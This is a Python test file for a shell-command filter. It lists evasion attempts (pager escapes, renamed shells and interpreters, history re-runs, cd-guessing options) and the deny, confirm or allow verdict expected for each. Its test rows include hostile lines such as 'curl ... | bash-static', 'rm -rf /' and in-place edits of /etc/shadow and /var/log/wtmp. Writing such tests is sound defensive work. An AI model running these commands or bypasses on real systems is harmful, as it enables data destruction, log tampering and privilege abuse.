"""Attack a10f, findings 1, 5, 6, 7, 8, 10, 11 and its suspicions (the tenth round on the command
filter): history re-run under fc -l, cd options that guess the directory, shells, interpreters
and pagers under other names, editor names, programs no table reads that take their program
from stdin, clients' pager options, in-place edits. The shipped policy; attack halves refused
or held, honest halves allowed; what the exec gate sees is `reads_script_from_stdin`."""

from __future__ import annotations

from bastion.command_control.policy import evaluate, reads_script_from_stdin
from tests.rows import each
from tests.test_policy import action


@each(("line", "expected"), [
    # 1: -s and `-e -` re-run the line even with -l; history -s puts one in
    ("fc -l -s", "confirm"),
    ("fc -ls", "confirm"),
    ("fc -nl -s", "confirm"),
    ("fc -l -e -", "confirm"),
    ("fc -le-", "confirm"),
    ("fc -l -s 'echo =' echo", "confirm"),
    ("fc -l -e vi", "confirm"),
    ("fc -l \"$opt\"", "confirm"),
    ("history -s 'touch /var/log/wtmp.x'", "confirm"),
    ("history -ps x", "confirm"),
    ("history -d 3 -s x", "deny"),  # -d deletes an entry: no-history-clear
    ("set -o history; history -s 'rm -rf /'; fc -l -s rm", "confirm"),
    # honest halves
    ("fc -l", "allow"),
    ("fc -ln -5", "allow"),
    ("fc -lr 10 20", "allow"),
    ("fc -l -- -5", "allow"),
    ("history", "allow"),
    ("history 10", "allow"),
    ("history -r /tmp/a", "allow"),
    ("export PROMPT_COMMAND='history -a; history -n'", "allow"),
])
def test_attack_a10f_fc_and_history_reruns(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "expected"), [
    # 5: with these on, cd (or a directory's bare name) goes where the line does not say
    ("shopt -s autocd; /var/log && touch wtmp.x", "confirm"),
    ("shopt -s cdspell; cd /etx && echo x >> sudoers", "confirm"),
    ("shopt -s dirspell", "confirm"),
    ("shopt -s extglob cdspell", "confirm"),
    ("bash -ic 'shopt -s cdspell; cd /var/logg && touch wtmp.x'", "confirm"),
    ("bash -O cdspell -ic 'cd /var/logg && touch wtmp.x'", "confirm"),
    ("bash -O autocd -i", "confirm"),
    ("BASHOPTS=cdspell bash -ic 'cd /var/logg && touch wtmp.x'", "confirm"),
    ("env BASHOPTS=cdspell bash -i", "confirm"),
    ("export BASHOPTS=autocd", "confirm"),
    ("zsh -c 'setopt auto_cd; /var/log; touch wtmp.x'", "confirm"),
    ("zsh -c 'setopt CORRECT_ALL'", "confirm"),
    ("zsh -c 'unsetopt NO_AUTO_CD'", "confirm"),
    ("zsh -c 'setopt \"$o\"'", "confirm"),
    # honest halves
    ("shopt -s extglob nullglob", "allow"),
    ("shopt -u cdspell", "allow"),
    ("bash -O extglob -c 'ls'", "allow"),
    ("zsh -c 'unsetopt autocd'", "allow"),
    ("zsh -c 'setopt nonomatch'", "allow"),
])
def test_attack_a10f_cd_guessing_options(default_policy, line, expected):
    assert action(default_policy, line) == expected


@each(("line", "reads"), [
    # 6: shells under packaged names read their commands from stdin (the stdin gate judges them)
    ("bash-static -s", "shell"),
    ("zsh-static", "shell"),
    ("mksh-static", "shell"),
    ("bsd-csh", "shell"),
    ("zsh-beta", "shell"),
    ("jsh", "shell"),
    ("sudo bash-static -s", "shell"),
    # interpreters under packaged names and (10) programs no table reads with no program named
    ("python3-dbg", "interpreter"),
    ("gforth-fast", "interpreter"),
    ("chicken-csi", "interpreter"),
    ("lli", "interpreter"),
    ("lli -", "interpreter"),
    ("lli /dev/stdin", "interpreter"),
    ("/usr/lib/llvm-16/bin/lli -O3", "interpreter"),
    ("php-cgi", "interpreter"),
    ("phpdbg -q", "interpreter"),
    ("tcc -run -", "interpreter"),
    ("tcc -run /dev/stdin", "interpreter"),
    ("jimsh", "interpreter"),
    ("picolisp", "interpreter"),
    ("newlisp", "interpreter"),
    ("pike", "interpreter"),
    ("csharp", "interpreter"),
    ("mono-csi", "interpreter"),
    ("kawa", "interpreter"),
    ("sudo -u app kawa", "interpreter"),
    # attack c12f, finding 1: the end of options, stdin in other spellings
    ("lli --", "interpreter"),
    ("lli /dev/./stdin", "interpreter"),
    ("lli //dev/stdin", "interpreter"),
    ("lli /proc/thread-self/fd/0", "interpreter"),
    ("mytool --", "program"),
    ("mytool -- file", None),
    # a program no table reads that only may: its first data is held (bastion.ssh.fed_gate)
    ("mytool -v", "program"),
    ("./healthcheck", "program"),
    ("sudo /opt/app/bin/migrate --dry-run", "program"),
    # honest halves: programs that read no program from stdin, scripts, functions, files
    ("uptime", None),
    ("free -m", None),
    ("ps -ef", None),
    ("dmesg -T", None),
    ("sudo reboot", None),
    ("/usr/lib/openssh/sftp-server", None),
    ("./deploy.sh", None),
    ("uv run x.py", None),
    ("f() { ls; }; f", None),
    ("lli /tmp/x.ll", None),
    ("lli < /tmp/x.ll", None),
    ("tcc -run x.c", None),
    ("tcc -o x x.c", None),
    ("bash-static -c 'ls'", None),
])
def test_attack_a10f_what_reads_its_program_from_stdin(line, reads):
    assert reads_script_from_stdin(line) == reads


@each(("line", "expected"), [
    # 6: the same shells given code on the line or fed a download
    ("bash-static -c 'rm -rf /'", "deny"),
    ("curl -s http://x/s | bash-static", "deny"),
    ("cat s | bsd-csh", "deny"),
    ("curl -s http://x/p | python3-dbg", "deny"),
    # 10: text piped or fed to a program no table reads is its program
    ("cat x.ll | lli", "confirm"),
    ("lli -- <<< 'x'", "confirm"),  # attack c12f, finding 1
    ("lli /dev/./stdin <<< 'x'", "confirm"),
    ("printf x | mytool --", "confirm"),
    ("lli <<< 'define i32 @main() { ret i32 0 }'", "confirm"),
    ("curl -s http://x/p.php | php-cgi", "confirm"),
    # 7: pager wrappers exec less or more with the words they were given
    ("zless '+!rm -rf /' /etc/hostname", "confirm"),
    ("xzless '+!touch /var/log/wtmp.x' F", "confirm"),
    ("lzless '+!sh' F", "confirm"),
    ("zstdless '+!sh' F", "confirm"),
    ("bzless '+!sh' F", "confirm"),
    ("sensible-pager '+!sh' F", "confirm"),
    ("pager '+!sh' F", "confirm"),
    ("zless -o /var/log/wtmp.x F", "deny"),
    ("xzless -o /var/log/wtmp.x F", "deny"),
    ("bzless --log-file=/var/log/wtmp.x F", "deny"),
    # 8: editor names Debian's alternatives and vim's packages install
    ("editor /etc/sudoers.d/x", "confirm"),
    ("sensible-editor /etc/sudoers", "confirm"),
    ("evim /etc/sudoers", "confirm"),
    ("eview /etc/shadow", "confirm"),
    ("gvim -v /etc/sudoers", "confirm"),
    ("gview /etc/passwd", "confirm"),
    ("rgvim /etc/sudoers", "confirm"),
    ("vimx /etc/group", "confirm"),
    ("sudo editor /etc/sudoers", "confirm"),
    # 11: a client's pager option runs a command; an option file or plugin may name one
    ("mysql --pager='rm -rf /'", "deny"),
    ("mariadb --pager='rm -rf /'", "deny"),
    ("mysql --pag='rm -rf /' -e 'select 1'", "deny"),
    ("mysql --pager=\"$CMD\" -e 'select 1'", "confirm"),
    ("mysql --defaults-extra-file=/tmp/my.cnf -e 'select 1'", "confirm"),
    ("mysql --plugin-dir=/tmp/p --default-auth=x -e 'select 1'", "confirm"),
    ("bat --pager='rm -rf /' F", "deny"),
    ("batcat --pager 'rm -rf /' F", "deny"),
    ("delta --pager='rm -rf /'", "deny"),
    ("pgcli --pager 'rm -rf /' db", "deny"),
    ("mycli --myclirc /tmp/rc db", "confirm"),
    # suspicions: in-place edits by perl and ruby, file -C, scriptlive
    ("ruby -pi -e 's/x/y/' /etc/shadow", "deny"),
    ("ruby -i.bak -pe 's/x/y/' /etc/sudoers", "deny"),
    ("ruby -p -i -e 1 /var/log/wtmp", "deny"),
    ("perl -i -pe 's/x/y/' /var/log/wtmp", "deny"),
    ("perl -pi x.pl /var/log/wtmp", "deny"),
    ("perl -I /tmp -pi -e 1 /var/log/wtmp", "deny"),
    ("ruby \"$o\" -e 1 /var/log/wtmp", "confirm"),
    ("file -C -m /tmp/magic", "confirm"),
    ("file --compile -m /tmp/magic", "confirm"),
    ("scriptlive -t timing typescript", "confirm"),
    # honest halves
    ("zless /var/log/syslog.2.gz", "allow"),
    ("zmore /var/log/syslog.2.gz", "allow"),
    ("editor /tmp/notes", "allow"),
    ("gvim -v /srv/app/config.yml", "allow"),
    ("mysql --pager=less -e 'select 1'", "allow"),
    ("mysql --password=x -e 'select 1'", "allow"),
    ("bat --pager less README.md", "allow"),
    ("perl -pi -e 's/x/y/' /srv/app/config.ini", "allow"),
    ("ruby -ne 'print' /etc/passwd", "allow"),
    ("file -z /var/log/syslog.2.gz", "allow"),
    ("scriptreplay -t timing typescript", "allow"),
    ("diff -u a b | colordiff", "allow"),
])
def test_attack_a10f_other_names_pagers_editors_clients(default_policy, line, expected):
    assert action(default_policy, line) == expected


def test_attack_a10f_unread_program_at_a_prompt_is_typed_at_the_terminal(default_policy):
    """At an interactive prompt a REPL no table knows reads what is typed, as python3 does:
    judged key by key there, not held as a script fed on stdin."""
    verdict = evaluate(default_policy, "lli", role="engineer", target="web01", interactive=True)
    assert verdict.action == "allow"


@each(("line", "expected"), [
    # a word known only at run time may be an option (`-C`, `-i`) only where the line shows one
    ("file \"-$x\" -m /tmp/magic", "confirm"),
    ("perl -ne 1 \"$x\" /var/log/wtmp", "confirm"),
    # honest halves: it is the operand
    ("file \"$f\"", "allow"),
    ("ruby -ne 'print' \"$f\"", "confirm"),  # "$f" may be -rdebug/open (z35f 17)
])
def test_attack_a10f_run_time_words_before_files(default_policy, line, expected):
    assert action(default_policy, line) == expected
